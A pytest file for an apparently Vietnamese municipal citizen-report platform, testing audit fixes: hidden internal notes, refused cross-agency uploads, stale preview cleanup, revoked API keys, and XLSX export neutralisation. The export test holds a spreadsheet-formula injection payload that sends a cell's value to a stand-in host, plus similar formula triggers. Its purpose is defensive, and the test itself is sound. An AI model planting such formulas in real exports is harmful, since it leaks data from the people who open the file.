"""Items 9 and 11 of the audit: internal notes of citizen reports follow the page's rule in the API; files
uploaded without the right are never kept."""

from __future__ import annotations

from dieuhanh.core.security import ANONYMOUS, Principal
from dieuhanh.feedback import service as feedback
from dieuhanh.feedback.schemas import ReportIn
from dieuhanh.geo.reference import communes_of
from dieuhanh.geo.service import commune_centroid
from dieuhanh.orgs.catalogue import commune_agency_code

NOTE = "Ghi chú nội bộ Wq7: hộ ông X tái phạm"


def _report_with_internal_note(db, settings) -> str:  # type: ignore[no-untyped-def]
    with db.session() as session:
        unit = next(u for u in communes_of("37") if commune_centroid(session, u.code) is not None)
        lat, lon = commune_centroid(session, unit.code)  # type: ignore[misc]
        report = feedback.submit(session, data=ReportIn(service_code="rac-thai", lat=lat, lon=lon,
                                                        description="Rác thải tồn đọng nhiều ngày ở đầu ngõ."),
                                 photos=[], source="web", principal=ANONYMOUS, settings=settings)
        officer = Principal(kind="user", id=9001, name="cb", role="officer", agency_code=commune_agency_code(unit.code))
        feedback.transition(session, report, "accept", principal=officer, settings=settings, note_internal=NOTE)
        return report.code


def test_internal_notes_are_not_in_the_api_for_analysts_and_read_tokens(client, db, settings, factory):
    from conftest import login

    code = _report_with_internal_note(db, settings)
    _, secret = factory.token(["read"], name="bi")
    as_token = client.get(f"/api/v1/feedback/reports/{code}", headers={"Authorization": f"Bearer {secret}"})
    assert as_token.status_code == 200 and [e["action"] for e in as_token.json()["events"]][:2] == ["submit", "accept"]
    assert NOTE not in as_token.text
    _, analyst, _ = factory.user("analyst")
    login(client, analyst)
    assert NOTE not in client.get(f"/api/v1/feedback/reports/{code}").text
    _, leader, _ = factory.user("leader")
    login(client, leader)
    assert NOTE in client.get(f"/api/v1/feedback/reports/{code}").text  # the page's rule: leaders read them


def test_upload_to_another_agencys_dataset_keeps_no_file_and_stale_previews_go(client, factory, settings):
    import os
    import time

    from sec_helpers import DATASET, create_beneficiaries

    from conftest import login
    from dieuhanh.catalog.views import remove_stale_previews

    create_beneficiaries(client, factory)  # owned by SNV
    _, username, _ = factory.user("officer", agency="SYT")
    _, csrf = login(client, username)
    response = client.post(f"/datasets/{DATASET}/upload", data={"csrf_token": csrf},
                           files={"file": ("x.csv", b"ma_xa,thang\n13285,2026-11\n", "text/csv")})
    assert response.status_code == 403
    uploads = settings.uploads_dir
    assert not uploads.exists() or list(uploads.iterdir()) == []
    uploads.mkdir(parents=True, exist_ok=True)
    old, fresh = uploads / "old.csv", uploads / "fresh.csv"
    old.write_text("x")
    fresh.write_text("y")
    two_days_ago = time.time() - 2 * 86400
    os.utime(old, (two_days_ago, two_days_ago))
    assert remove_stale_previews(uploads) == 1
    assert not old.exists() and fresh.exists()


def test_every_xlsx_export_writes_text_through_the_neutralising_cell_writer():
    import io

    from openpyxl import load_workbook

    from dieuhanh.dashboard.exports import table_to_xlsx

    attack = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    data = table_to_xlsx(attack, ["Cơ quan", "+cmd"], [[attack, 1.5], ["@SUM(A1)", None]], subtitle="-2+3")
    sheet = load_workbook(io.BytesIO(data)).active
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    assert sheet["B4"].value == 1.5  # numbers stay numbers


def test_a_revoked_open311_key_is_refused_at_once(client, db, factory):
    from dieuhanh.core.security import SYSTEM
    from dieuhanh.orgs import service as orgs

    with db.session() as session:
        unit = next(u for u in communes_of("37") if commune_centroid(session, u.code) is not None)
        lat, lon = commune_centroid(session, unit.code)  # type: ignore[misc]
    token_id, key = factory.token(["open311"], name="cong-dan-app")

    def post():  # type: ignore[no-untyped-def]
        return client.post("/open311/v2/requests.json", data={
            "api_key": key, "service_code": "rac-thai", "lat": lat, "long": lon,
            "description": "Rác thải đổ trộm ven đường, bốc mùi khó chịu."})

    assert post().status_code in (200, 201)  # the key's principal is now cached
    with db.session() as session:
        orgs.revoke_token(session, principal=SYSTEM, token_id=token_id)
    assert post().status_code == 403
